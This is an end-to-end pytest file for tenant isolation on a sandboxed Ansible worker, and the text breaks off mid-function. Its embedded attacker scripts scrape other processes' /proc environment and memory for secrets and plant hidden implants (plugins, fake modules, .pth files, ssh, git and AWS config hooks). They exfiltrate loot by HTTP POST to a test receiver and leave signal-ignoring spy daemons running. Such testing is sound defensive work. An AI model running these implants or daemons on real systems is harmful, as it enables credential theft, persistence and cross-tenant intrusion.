"""Tenant isolation on the worker, attacked end to end: one tenant's playbook against the next one's run.

One local mode with accounts ATTACKER and VICTIM and a single worker, so that one sandbox (one warm
"Lambda environment") serves every run, in this order:

1. ATTACKER's *plant* run tries every technique below from a playbook on localhost, prints what it
   got, plants implants wherever a later run could load or read them (and proves each works by
   firing it once on purpose), and leaves background processes that spy on later runs;
2. VICTIM's run clones a repository over smart HTTP with a password, reaches an SSH host with a
   private key and carries a canary in its extra vars;
3. ATTACKER's *collect* run prints whatever its implants and processes gathered, and attacks the
   emulator behind local mode directly over loopback;
4. ATTACKER's *census* run lists every process of the sandbox: only the worker and its own remain.

Whatever ATTACKER can see (its logs, its events, and every POST its implants and processes made to
a receiver of the test) is searched for the worker's credentials (from local mode's emulator.json)
and VICTIM's canaries. Attack output travels as `@@<technique>.<part>.<parts>@@<base64>@@` pieces of
JSON, which the test decodes, so that no masking of output can hide what an attack really got.

An *attack* is one named technique (TECHNIQUES); it *got anything* when a secret or canary reached
ATTACKER through it, an implant ran or was still there in a later run, or a background process
survived into a later run. The counts are printed and written to `isolation-attacks.json` under
pytest's base temporary directory.
"""
from __future__ import annotations

import base64
import binascii
import json
import re
import secrets
import sys
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator

import pytest

from chalicelib.auth.signing_key import TOKEN_SIGNING_CONTEXT, key_text
from chalicelib.platform.models import SIGNING_KEY_ITEM
from localmode.sandbox import unavailable_reason
from tests.e2e.conftest import Client, LocalMode
from tests.e2e.realparts import GitHttpServer, Receiver, SshServer, make_repo, ssh_server  # noqa: F401 - fixture
from tests.waiting import wait_for

REPOSITORY = Path(__file__).resolve().parents[2]

pytestmark = [
    pytest.mark.skipif(unavailable_reason() is not None,
                       reason=f"the workers' sandbox is needed: {unavailable_reason()}"),
    # Local mode's start and four playbook runs on a loaded 2-core machine: a deadline, not a measure.
    pytest.mark.timeout(480),
]

ATTACKER, VICTIM = "ATTACKER", "VICTIM"
FINAL = {"SUCCESS", "FAILURE", "INIT_FAILURE", "STOPPED", "KILLED"}
SURVIVOR_SECONDS = 120

# The issue's techniques (a: environment, b: /proc, c: implants, d: background processes), then
# further ones tried here.
TECHNIQUES: dict[str, str] = {
    "env_command": "a. the `env` command's output",
    "env_lookup": "a. lookup('env', X) for every variable name of the worker",
    "proc_environ": "b. /proc/*/environ of every visible process",
    "proc_cmdline": "b. /proc/*/cmdline of every visible process",
    "proc_mem": "b. /proc/*/mem (and /proc/1's other files) of every visible process",
    "implant_run_ansible_home_vars": "c. a vars plugin in the run's $ANSIBLE_HOME/plugins/vars",
    "implant_tmp_ansible_vars": "c. a vars plugin in /tmp/.ansible/plugins/vars (the image's ANSIBLE_HOME)",
    "implant_tmp_ansible_modules": "c. modules named like builtins in /tmp/.ansible/plugins/modules",
    "implant_tmp_ansible_callback": "c. a callback plugin in /tmp/.ansible/plugins/callback",
    "implant_tmp_dot_ansible_cfg": "c. /tmp/.ansible.cfg (HOME=/tmp) running a vault password script",
    "implant_tmp_cwd_ansible_cfg": "c. /tmp/ansible.cfg running a vault password script",
    "implant_netrc": "c. /tmp/.netrc (and ~/.netrc) with credentials for 127.0.0.1",
    "implant_user_site_pth": "c. a .pth and usercustomize in /tmp/.local (and ~/.local) user site",
    "implant_ssh_config": "c. ~/.ssh/config and /tmp/.ssh/config (ssh's home) with `Match exec`",
    "implant_gitconfig": "c. /tmp/.gitconfig and /tmp/.config/git/config: hooksPath and a credential helper",
    "survivor_setsid_nohup": "d. `env -u RUNNER_RUN_ID setsid nohup ... &`",
    "survivor_double_fork": "d. a Python double-fork daemon, without the run marker, not dumpable",
    "survivor_refork_loop": "d. a process that re-forks in a loop, without the run marker, not dumpable",
    "env_runner_artifacts": "extra: the run's own private_data_dir (ansible-runner's artifacts/*/command, env/)",
    "implant_run_home_ansible_cfg": "extra: the run's ~/.ansible.cfg running a vault password script",
    "implant_aws_config": "extra: /tmp/.aws/config with a credential_process (the worker's HOME is /tmp)",
    "survivor_async_task": "extra: an `async`/`poll: 0` task that keeps running",
    "persist_outside_tmp": "extra: files left in any writable directory outside /tmp",
    "emulator_over_loopback": "extra: the AWS emulator behind local mode, reached over 127.0.0.1 without credentials",
    "host_filesystem": "extra: host files readable around the attacker's repository (the sandbox's root is the host's)",
}
ISSUE_TECHNIQUES = [name for name, text in TECHNIQUES.items() if not text.startswith("extra")]
IMPLANTS = [name for name in TECHNIQUES if name.startswith("implant_")]
SURVIVORS = [name for name in TECHNIQUES if name.startswith("survivor_")]
PRINTED = ["env_command", "env_lookup", "proc_environ", "proc_cmdline", "proc_mem", "env_runner_artifacts",
           "persist_outside_tmp"]
# Implants that must fire when their place is used on purpose (the plant run's controls); ansible
# never reads an ansible.cfg from a world-writable working directory such as /tmp.
CONTROLLED = [name for name in IMPLANTS if name != "implant_tmp_cwd_ansible_cfg"]
# The run's own variables (isolation.run_environment); every other variable of the worker is its own.
GRANTED = {"PATH", "HOME", "TMPDIR", "LANG", "TZ", "PYTHONPATH", "PYTHONNOUSERSITE", "PYTHONDONTWRITEBYTECODE",
           "RUNNER_RUN_ID", "RUNNER_STOP_FILE"}
WORKER_ONLY = ["AWS_LAMBDA_FUNCTION_NAME", "AWS_LAMBDA_RUNTIME_API", "AWS_LAMBDA_LOG_GROUP_NAME",
               "AWS_EXECUTION_ENV", "LAMBDA_TASK_ROOT", "LAMBDA_RUNTIME_DIR", "RUNNER_PARENT_PID",
               "RUNNER_SANDBOXED"]
TOKEN = re.compile(r"@@([a-z_:0-9.]+)@@([A-Za-z0-9+/=]*)@@")
CHUNK = 6000  # as COMMON_PY's emit
TASK = re.compile(r"^attack ([a-z_]+)")

# ----------------------------------------------------------------------------------------------
# ATTACKER's repository: playbooks and the scripts they run with the worker's Python in isolated mode
# ----------------------------------------------------------------------------------------------
COMMON_PY = r'''"""Shared by the attack scripts: output no masking can hide, the process table, file trees."""
import base64
import json
import os

PERSIST_NAME = ".isolation-persist"
CHUNK, OVERLAP = 6000, 400


def emit(tag, data):
    """Print `data` as lines @@tag.<part>.<parts>@@<base64 of a piece of its JSON>@@.

    Pieces overlap, so that no secret is cut in two; each line fits in one event's output.
    """
    text = json.dumps(data, sort_keys=True, default=str)
    parts = max(1, -(-len(text) // CHUNK))
    for index in range(parts):
        piece = text[index * CHUNK:(index + 1) * CHUNK + OVERLAP]
        print("@@%s.%d.%d@@%s@@" % (tag, index, parts, base64.b64encode(piece.encode()).decode()), flush=True)


def read_tree(root, budget=100000, per_file=65536, skipped=("project",), skipped_files=("stdout", "stderr")):
    """Every file under `root` (but checkouts and ansible-runner's copies of the output) with its content."""
    found = {}
    if os.path.isfile(root):
        walk = [(os.path.dirname(root), [], [os.path.basename(root)])]
    else:
        walk = os.walk(root)
    for directory, subdirectories, files in walk:
        subdirectories[:] = [name for name in subdirectories if name not in skipped and name != "job_events"]
        if not files and not subdirectories:
            found[directory + "/"] = "(empty directory)"
        for name in files:
            if name in skipped_files:
                continue
            path = os.path.join(directory, name)
            if budget <= 0:
                found[path] = "(over budget)"
                continue
            try:
                with open(path, "rb") as handle:
                    raw = handle.read(per_file)
                text = raw.decode("utf-8")
            except OSError as exc:
                text = "unreadable: %s" % exc.strerror
            except UnicodeDecodeError:
                text = "(binary, %d bytes)" % len(raw)
            budget -= len(text)
            found[path] = text
    return found


def processes(own_run):
    """Every process of this PID namespace: pid, state, ppid, cmdline, run marker (or why unreadable)."""
    seen = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        pid = int(name)
        entry = {"pid": pid}
        try:
            with open("/proc/%d/stat" % pid, "rb") as handle:
                stat = handle.read().rsplit(b")", 1)[1].split()
            entry["state"], entry["ppid"] = stat[0].decode(), int(stat[1])
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                entry["cmdline"] = [part.decode("utf-8", "replace") for part in handle.read().split(b"\0") if part]
        except (OSError, IndexError):
            continue  # ended meanwhile
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                environment = dict(item.split(b"=", 1) for item in handle.read().split(b"\0") if b"=" in item)
            entry["run_id"] = environment.get(b"RUNNER_RUN_ID", b"").decode() or None
        except OSError as exc:
            entry["run_id"] = "unreadable: %s" % exc.strerror
        entry["own"] = entry["run_id"] == own_run
        seen.append(entry)
    return seen


def persist_candidates(limit=20000):
    """Directories outside /tmp, /proc and /sys, three levels deep from /."""
    found, level = [], ["/"]
    for _ in range(3):
        following = []
        for directory in level:
            try:
                entries = list(os.scandir(directory))
            except OSError:
                continue
            for entry in entries:
                try:
                    if entry.is_dir(follow_symlinks=False) and entry.path not in ("/proc", "/sys", "/tmp"):
                        following.append(entry.path)
                except OSError:
                    continue
        found.extend(following)
        level = following
        if len(found) > limit:
            break
    return ["/"] + found[:limit]


def pid1():
    """What identifies the sandbox: PID 1's start time and the PID namespace."""
    try:
        with open("/proc/1/stat", "rb") as handle:
            started = handle.read().rsplit(b")", 1)[1].split()[19].decode()
        return {"started": started, "namespace": os.readlink("/proc/self/ns/pid")}
    except OSError as exc:
        return {"error": str(exc)}
'''

PROCS_PY = r'''"""Read what /proc shows of every other process: environment, command line, memory."""
import os
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import emit, pid1  # noqa: E402

TECHNIQUE = sys.argv[1]
PIDS = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
WORKERISH = re.compile(rb"(?:AWS_|RUNNER_|LAMBDA_|_LAMBDA)[A-Z0-9_]*=[^\x00\n\"]{1,200}"
                       rb"|-----BEGIN [A-Z ]*PRIVATE KEY-----")


def proc_environ():
    own = {"%s=%s" % item for item in os.environ.items()}
    entries, refused = {}, {}
    for pid in PIDS:
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                raw = handle.read()
        except OSError as exc:
            refused[pid] = exc.strerror
            continue
        for item in raw.split(b"\0"):
            text = item.decode("utf-8", "replace")
            if text and text not in own:
                entries.setdefault(text, []).append(pid)
    return {"pids": PIDS, "refused": refused, "entries": entries}


def proc_cmdline():
    lines = {}
    for pid in PIDS:
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                lines[pid] = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError as exc:
            lines[pid] = "refused: %s" % exc.strerror
    return {"cmdlines": lines, "pid1": pid1()}


def proc_mem():
    results, matches = {}, set()
    for pid in PIDS:
        if pid == os.getpid():
            continue
        try:
            with open("/proc/%d/maps" % pid) as handle:
                maps = handle.read().splitlines()
            memory = open("/proc/%d/mem" % pid, "rb")
        except OSError as exc:
            results[pid] = "refused: %s" % exc.strerror
            continue
        scanned, budget = 0, 8 << 20
        with memory:
            for line in maps:
                fields = line.split()
                named = len(fields) > 5 and not fields[5].startswith("[")  # a file's mapping, not heap or stack
                if len(fields) < 5 or not fields[1].startswith("rw") or named:
                    continue
                start, end = (int(value, 16) for value in fields[0].split("-"))
                size = min(end - start, budget - scanned)
                if size <= 0:
                    break
                try:
                    memory.seek(start)
                    chunk = memory.read(size)
                except (OSError, ValueError, OverflowError):
                    continue
                scanned += len(chunk)
                matches.update(match.decode("utf-8", "replace") for match in WORKERISH.findall(chunk))
        results[pid] = "read %d bytes" % scanned
    worker = {}
    for name in ("mem", "environ", "maps", "auxv", "stack", "syscall", "pagemap", "fd", "cwd", "root", "exe"):
        path = "/proc/1/" + name
        try:
            if name == "fd":
                worker[name] = "listed: %s" % os.listdir(path)
            elif name in ("cwd", "root", "exe"):
                worker[name] = "link: %s" % os.readlink(path)
            else:
                with open(path, "rb") as handle:
                    worker[name] = "read %d bytes" % len(handle.read(4096))
        except OSError as exc:
            worker[name] = "refused: %s" % exc.strerror
    return {"results": results, "matches": sorted(matches)[:300], "pid1": worker}


emit(TECHNIQUE, globals()[TECHNIQUE]())
'''

ARTIFACTS_PY = r'''"""Read the run's own private_data_dir: what ansible-runner and the worker wrote there."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import emit, read_tree  # noqa: E402

workspace = sys.argv[1]
emit("env_runner_artifacts", {"workspace": workspace, "AWX_ISOLATED_DATA_DIR": os.environ.get("AWX_ISOLATED_DATA_DIR"),
                              "files": read_tree(workspace)})
'''

IMPLANTS_PY = r'''"""Plant an implant wherever a later run could load or read one; then fire each once on purpose."""
import json
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import emit  # noqa: E402

RECEIVER, ORIGIN_RUN, ORIGIN_WS = sys.argv[1:4]
PYTHON = sys.executable
BASE_PYTHON = os.path.realpath(PYTHON)  # outside the virtualenv: a Python with a user site
HOME = os.environ["HOME"]
ANSIBLE_HOME = os.environ["ANSIBLE_HOME"]
SITE = "lib/python%d.%d/site-packages" % sys.version_info[:2]

# Runs wherever an implant fires: reports the environment and every other run's workspace.
REPORT = r"""
def _isolation_report():
    import glob, json, os, sys, urllib.request
    try:
        environment = dict(os.environ)
        loot = {}
        for workspace in glob.glob("/tmp/runner-*"):
            if workspace == ORIGIN_WS:
                continue
            for root, directories, files in os.walk(workspace):
                directories[:] = [name for name in directories if name != "project"]
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        with open(path, "rb") as handle:
                            loot[path] = handle.read(65536).decode("utf-8", "replace")
                    except OSError as exc:
                        loot[path] = "unreadable: %s" % exc
        try:
            where = os.getcwd()
        except OSError:
            where = None
        body = json.dumps({"technique": TECHNIQUE, "pid": os.getpid(), "argv": sys.argv, "cwd": where,
                           "run_id": environment.get("RUNNER_RUN_ID"),
                           "control": environment.get("IMPLANT_CONTROL") == "1",
                           "environment": environment, "loot": loot}).encode()
        try:
            os.makedirs("/tmp/.loot", exist_ok=True)
            with open("/tmp/.loot/%s-%d.json" % (TECHNIQUE, os.getpid()), "wb") as handle:
                handle.write(body)
        except OSError:
            pass
        request = urllib.request.Request(RECEIVER + "/implant/" + TECHNIQUE, data=body,
                                         headers={"Content-Type": "application/json"})
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=5).close()
    except Exception:
        pass
"""
planted, failed = {}, {}


def payload(technique, tail=""):
    return ("RECEIVER = %r\nORIGIN_WS = %r\nTECHNIQUE = %r\n" % (RECEIVER, ORIGIN_WS, technique)
            + REPORT + "\n_isolation_report()\n" + tail)


def in_python(technique, body=""):
    """Python that reports at import time, then defines `body` (a plugin's class)."""
    code = payload(technique).encode().hex()
    return ("try:\n    exec(compile(bytes.fromhex(%r).decode(), 'isolation_implant', 'exec'), "
            "{'__name__': 'isolation_implant'})\nexcept Exception:\n    pass\n" % code) + body


def script(technique, tail):
    """An executable that reports, then ends with `tail`."""
    return "#!%s -I\n" % PYTHON + payload(technique, tail)


def plant(technique, path, text, mode=0o644):
    try:
        os.makedirs(os.path.dirname(path), mode=0o700, exist_ok=True)
        with open(path, "w") as handle:
            handle.write(text)
        os.chmod(path, mode)
        planted.setdefault(technique, []).append(path)
    except OSError as exc:
        failed.setdefault(technique, []).append("%s: %s" % (path, exc))


VARS = """
from ansible.plugins.vars import BaseVarsPlugin


class VarsModule(BaseVarsPlugin):
    REQUIRES_ENABLED = False

    def get_vars(self, loader, path, entities, cache=True):
        return {}
"""
CALLBACK = """
from ansible.plugins.callback import CallbackBase


class CallbackModule(CallbackBase):
    CALLBACK_VERSION = 2.0
    CALLBACK_TYPE = "aggregate"
    CALLBACK_NAME = "isolation_implant"
    CALLBACK_NEEDS_ENABLED = False
"""
MODULE = """
import json
print(json.dumps({"changed": False, "isolation_implant": True, "ansible_facts": {}}))
"""
EXIT_1 = "\nraise SystemExit(1)\n"
HOOK = "\nimport sys\ntry:\n    sys.stdin.read()\nexcept Exception:\n    pass\n"

plant("implant_run_ansible_home_vars", ANSIBLE_HOME + "/plugins/vars/isolation_implant.py",
      in_python("implant_run_ansible_home_vars", VARS))
plant("implant_tmp_ansible_vars", "/tmp/.ansible/plugins/vars/isolation_implant.py",
      in_python("implant_tmp_ansible_vars", VARS))
for name in ("command", "ping", "setup", "stat", "file", "copy", "shell"):
    plant("implant_tmp_ansible_modules", "/tmp/.ansible/plugins/modules/%s.py" % name,
          "#!/usr/bin/python\n# WANT_JSON\n" + in_python("implant_tmp_ansible_modules", MODULE))
plant("implant_tmp_ansible_callback", "/tmp/.ansible/plugins/callback/isolation_implant.py",
      in_python("implant_tmp_ansible_callback", CALLBACK))
for technique, config, base in (("implant_tmp_dot_ansible_cfg", "/tmp/.ansible.cfg", "/tmp/.implant-dotcfg"),
                                ("implant_tmp_cwd_ansible_cfg", "/tmp/ansible.cfg", "/tmp/.implant-cwdcfg"),
                                ("implant_run_home_ansible_cfg", HOME + "/.ansible.cfg", HOME + "/.implant-homecfg")):
    plant(technique, base + "/vault", script(technique, "\nprint('isolation')\n"), 0o700)
    plant(technique, config, "[defaults]\nvault_password_file = %s/vault\n" % base)
for home in ("/tmp", HOME):
    plant("implant_netrc", home + "/.netrc",
          "machine 127.0.0.1 login isolation-netrc password isolation-netrc-implant\n", 0o600)
    code = payload("implant_user_site_pth").encode().hex()
    plant("implant_user_site_pth", "%s/.local/%s/isolation_implant.pth" % (home, SITE),
          "import os; exec(bytes.fromhex('%s').decode(), {'__name__': 'isolation_implant'})\n" % code)
    plant("implant_user_site_pth", "%s/.local/%s/usercustomize.py" % (home, SITE), payload("implant_user_site_pth"))
    plant("implant_ssh_config", home + "/.ssh/isolation-match", script("implant_ssh_config", EXIT_1), 0o700)
    plant("implant_ssh_config", home + "/.ssh/config",
          'Match exec "%s/.ssh/isolation-match"\n    User isolation\n' % home, 0o600)
hooks = "/tmp/.implant-git/hooks"
for hook in ("pre-commit", "post-commit", "post-checkout", "post-merge", "reference-transaction", "credential"):
    plant("implant_gitconfig", "%s/%s" % (hooks, hook), script("implant_gitconfig", HOOK), 0o700)
for path in ("/tmp/.gitconfig", "/tmp/.config/git/config"):
    plant("implant_gitconfig", path,
          "[core]\n\thooksPath = %s\n[credential]\n\thelper = %s/credential\n" % (hooks, hooks))
plant("implant_aws_config", "/tmp/.aws/isolation-credentials", script("implant_aws_config", EXIT_1), 0o700)
plant("implant_aws_config", "/tmp/.aws/config", "[default]\ncredential_process = /tmp/.aws/isolation-credentials\n")


def run(argv, env, cwd="/tmp"):
    try:
        done = subprocess.run(argv, env=env, cwd=cwd, stdin=subprocess.DEVNULL, capture_output=True, timeout=150)
        tail = (done.stdout + done.stderr)[-600:].decode("utf-8", "replace")
        return {"argv": argv, "rc": done.returncode, "tail": tail}
    except (OSError, subprocess.SubprocessError) as exc:
        return {"argv": argv, "error": repr(exc)}


# The controls: each place used on purpose, as a later run would use it were it left there.
own = {key: value for key, value in os.environ.items() if not key.startswith(("ANSIBLE_", "AWX_"))}
own["IMPLANT_CONTROL"] = "1"
at_tmp = dict(own, HOME="/tmp", TMPDIR="/tmp", ANSIBLE_HOME="/tmp/.ansible")
with_user_site = {key: value for key, value in at_tmp.items() if key != "PYTHONNOUSERSITE"}
os.makedirs("/tmp/.implant-control", exist_ok=True)
with open("/tmp/.implant-control/control.yml", "w") as handle:
    handle.write("- hosts: all\n  gather_facts: true\n  tasks:\n    - ping:\n")
playbook = [os.path.join(os.path.dirname(PYTHON), "ansible-playbook"), "-i", "localhost,", "-c", "local",
            "-e", "ansible_python_interpreter=" + PYTHON, "/tmp/.implant-control/control.yml"]
repository = "/tmp/.implant-control/repository"
identity = {"GIT_AUTHOR_NAME": "i", "GIT_AUTHOR_EMAIL": "i@i.invalid", "GIT_COMMITTER_NAME": "i",
            "GIT_COMMITTER_EMAIL": "i@i.invalid"}
controls = [
    run(playbook, at_tmp),
    run(playbook, dict(own, ANSIBLE_HOME=ANSIBLE_HOME), cwd=os.environ.get("TMPDIR", "/tmp")),
    run([BASE_PYTHON, "-c", "pass"], with_user_site),
    run([BASE_PYTHON, "-c", "pass"], dict(with_user_site, HOME=HOME)),
    run(["ssh", "-G", "127.0.0.1"], at_tmp),
    run(["ssh", "-F", HOME + "/.ssh/config", "-G", "127.0.0.1"], own),
    run(["git", "init", "-q", repository], dict(at_tmp, **identity)),
    run(["git", "-C", repository, "commit", "-q", "--allow-empty", "-m", "control"], dict(at_tmp, **identity)),
    run(["curl", "-s", "-n", "-o", "/dev/null", "-X", "POST", "-H", "Content-Type: application/json", "--data",
         json.dumps({"technique": "implant_netrc", "control": True, "run_id": ORIGIN_RUN}),
         RECEIVER + "/implant/implant_netrc"], at_tmp),
    run([PYTHON, "-I", "-c", "import botocore.session; botocore.session.get_session().get_credentials()"], at_tmp),
]
emit("implants", {"planted": planted, "failed": failed, "controls": controls})
'''

ATTACK_PY = r'''"""The plant run's script-based techniques, one after the other (one playbook task for all)."""
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import emit  # noqa: E402

RECEIVER, RUN_ID, WORKSPACE = sys.argv[1:4]
HERE = os.path.dirname(os.path.abspath(__file__))
done = subprocess.run(["env"], capture_output=True)
emit("env_command", {"output": done.stdout.decode("utf-8", "replace"), "rc": done.returncode})
for script, *arguments in (("procs.py", "proc_environ"), ("procs.py", "proc_cmdline"), ("procs.py", "proc_mem"),
                           ("artifacts.py", WORKSPACE), ("implants.py", RECEIVER, RUN_ID, WORKSPACE),
                           ("persist.py",)):
    done = subprocess.run([sys.executable, "-I", os.path.join(HERE, script), *arguments], capture_output=True)
    sys.stdout.write(done.stdout.decode("utf-8", "replace"))
    if done.returncode:
        emit("failed", {"script": script, "arguments": arguments, "rc": done.returncode,
                        "stderr": done.stderr.decode("utf-8", "replace")[-2000:]})
    sys.stdout.flush()
'''

SURVIVOR_PY = r'''"""A background process that tries to outlive its run and spy on the runs after it.

argv: technique, stage (launch | loop), receiver, origin workspace, seconds to live.
"""
import ctypes
import glob
import json
import os
import signal
import sys
import time
import urllib.request

TECHNIQUE, STAGE, RECEIVER, ORIGIN_WS, SECONDS = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
TAG = "ISOLATION_SURVIVOR"
PR_SET_DUMPABLE = 4


def detach():
    null = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(null, number)
    os.closerange(3, 4096)


def reexec_unmarked():
    """Become a new program without the run's marker: /proc/<pid>/environ no longer carries it."""
    environment = {key: value for key, value in os.environ.items() if key != "RUNNER_RUN_ID"}
    environment[TAG] = TECHNIQUE
    os.execve(sys.executable, [sys.executable, "-I", os.path.abspath(__file__), TECHNIQUE, "loop", RECEIVER,
                               ORIGIN_WS, str(SECONDS)], environment)


def read(path, limit=65536):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError as exc:
        return "unreadable: %s" % exc.strerror


def scan():
    """Other runs' workspaces and processes, and what they hold."""
    workspaces = [path for path in glob.glob("/tmp/runner-*") if path != ORIGIN_WS]
    loot = {}
    for workspace in workspaces:
        for root, directories, files in os.walk(workspace):
            directories[:] = [name for name in directories if name != "project"]
            for name in files:
                loot[os.path.join(root, name)] = read(os.path.join(root, name))
    foreign = {}
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (1, os.getpid()):
            continue
        try:
            with open("/proc/%s/environ" % name, "rb") as handle:
                environment = handle.read().decode("utf-8", "replace")
        except OSError:
            continue  # gone, or closed to us (the worker)
        if not environment or ORIGIN_WS in environment or TAG in environment:
            continue  # a zombie, of the origin run, or another survivor
        foreign[name] = {"environ": environment, "cmdline": read("/proc/%s/cmdline" % name).replace("\0", " ")}
    return {"foreign_workspaces": workspaces, "foreign_processes": foreign, "loot": loot}


def post(body):
    try:
        request = urllib.request.Request(RECEIVER + "/survivor/" + TECHNIQUE, data=json.dumps(body).encode(),
                                         headers={"Content-Type": "application/json"})
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=3).close()
    except Exception:
        pass


def write(name, text):
    try:
        os.makedirs("/tmp/.loot", exist_ok=True)
        with open("/tmp/.loot/%s-%s" % (TECHNIQUE, name), "w") as handle:
            handle.write(text)
    except OSError:
        pass


def loop():
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1, signal.SIGUSR2):
        signal.signal(number, signal.SIG_IGN)
    if TECHNIQUE in ("survivor_double_fork", "survivor_refork_loop"):
        ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    started, last_post, beat, sequence = time.monotonic(), -10.0, False, 0
    while time.monotonic() - started < SECONDS:
        found = scan()
        sequence += 1
        now = time.monotonic()
        spotted = bool(found["foreign_workspaces"] or found["foreign_processes"])
        if spotted or now - last_post >= 1.0:
            post(dict(found, technique=TECHNIQUE, pid=os.getpid(), sequence=sequence, alive_for=now - started))
            last_post = now
        if spotted:
            write("found-%d.json" % os.getpid(), json.dumps(found))
        if not beat:
            write("beat", str(os.getpid()))
            beat = True
        if TECHNIQUE == "survivor_refork_loop":
            for _ in range(10):
                time.sleep(0.02)
                if os.fork():
                    os._exit(0)  # the child carries on under a new pid
        else:
            time.sleep(0.2)


if STAGE == "loop":
    loop()
elif TECHNIQUE == "survivor_double_fork":
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        sys.exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    detach()
    reexec_unmarked()
elif TECHNIQUE == "survivor_refork_loop":
    if os.fork():
        sys.exit(0)
    os.setsid()
    detach()
    reexec_unmarked()
'''

PERSIST_PY = r'''"""Leave a file in every directory outside /tmp that takes one."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import PERSIST_NAME, emit, persist_candidates  # noqa: E402

candidates = persist_candidates()
written, refusals = [], {}
for directory in candidates:
    path = os.path.join(directory, PERSIST_NAME)
    try:
        with open(path, "w") as handle:
            handle.write("left by the attacker's plant run\n")
        written.append(path)
    except OSError as exc:
        refusals[exc.strerror] = refusals.get(exc.strerror, 0) + 1
emit("persist_outside_tmp", {"tried": len(candidates), "written": written, "refusals": refusals})
'''

COLLECT_PY = r'''"""A later run of the attacker: what did its implants and processes leave or gather?"""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import PERSIST_NAME, emit, persist_candidates, pid1, processes, read_tree  # noqa: E402

own_ws = sys.argv[1]
HOME = os.environ["HOME"]
ANSIBLE_HOME = os.environ["ANSIBLE_HOME"]
SITE = "lib/python%d.%d/site-packages" % sys.version_info[:2]
PLACES = {
    "implant_run_ansible_home_vars": [ANSIBLE_HOME + "/plugins/vars"],
    "implant_tmp_ansible_vars": ["/tmp/.ansible/plugins/vars"],
    "implant_tmp_ansible_modules": ["/tmp/.ansible/plugins/modules"],
    "implant_tmp_ansible_callback": ["/tmp/.ansible/plugins/callback"],
    "implant_tmp_dot_ansible_cfg": ["/tmp/.ansible.cfg", "/tmp/.implant-dotcfg"],
    "implant_tmp_cwd_ansible_cfg": ["/tmp/ansible.cfg", "/tmp/.implant-cwdcfg"],
    "implant_run_home_ansible_cfg": [HOME + "/.ansible.cfg", HOME + "/.implant-homecfg"],
    "implant_netrc": ["/tmp/.netrc", HOME + "/.netrc"],
    "implant_user_site_pth": ["/tmp/.local/" + SITE, HOME + "/.local/" + SITE],
    "implant_ssh_config": ["/tmp/.ssh", HOME + "/.ssh"],
    "implant_gitconfig": ["/tmp/.gitconfig", "/tmp/.config/git", "/tmp/.implant-git"],
    "implant_aws_config": ["/tmp/.aws"],
    "survivor_setsid_nohup": [], "survivor_double_fork": [], "survivor_refork_loop": [], "survivor_async_task": [],
}
loot = read_tree("/tmp/.loot") if os.path.isdir("/tmp/.loot") else {}
for technique, places in PLACES.items():
    present = {}
    for place in places:
        if os.path.exists(place):
            present.update(read_tree(place, skipped=(), skipped_files=()))
    present.update({path: text for path, text in loot.items() if os.path.basename(path).startswith(technique + "-")})
    emit("collect:" + technique, {"present": present})
left = [os.path.join(directory, PERSIST_NAME) for directory in persist_candidates()]
emit("collect:persist_outside_tmp", {"present": [path for path in left if os.path.exists(path)]})
emit("collect:foreign_workspaces", {"present": {path: read_tree(path) for path in
                                                (os.path.join("/tmp", name) for name in os.listdir("/tmp"))
                                                if path != own_ws and os.path.basename(path).startswith("runner-")}})
emit("collect:tmp_listing", {"own": own_ws, "entries": {name: sorted(read_tree(os.path.join("/tmp", name)))
                                                         for name in os.listdir("/tmp")
                                                         if os.path.join("/tmp", name) != own_ws}})
emit("collect:processes", {"own_run": os.environ.get("RUNNER_RUN_ID"), "pid1": pid1(),
                           "processes": processes(os.environ.get("RUNNER_RUN_ID"))})
'''

EMULATOR_PY = r'''"""Reach the AWS emulator behind local mode over loopback, with no credentials of the worker."""
import base64
import json
import os
import sys
import urllib.request
from concurrent.futures import ThreadPoolExecutor

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import emit  # noqa: E402

LOOPBACK = {"0100007F", "00000000", "00000000000000000000000000000000", "00000000000000000000000001000000"}


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as handle:
                lines = handle.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            address, port = fields[1].rsplit(":", 1)
            if fields[3] == "0A" and address in LOOPBACK:
                ports.add(int(port, 16))
    return sorted(ports)


def moto(port):
    try:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open("http://127.0.0.1:%d/moto-api/" % port, timeout=3) as answer:
            return port if b"moto" in answer.read(65536).lower() else None
    except Exception:
        return None


def loot(endpoint):
    import boto3
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    session = boto3.session.Session(aws_access_key_id="attacker", aws_secret_access_key="attacker",
                                    region_name="us-east-1")
    dynamodb, kms = session.client("dynamodb", endpoint_url=endpoint), session.client("kms", endpoint_url=endpoint)
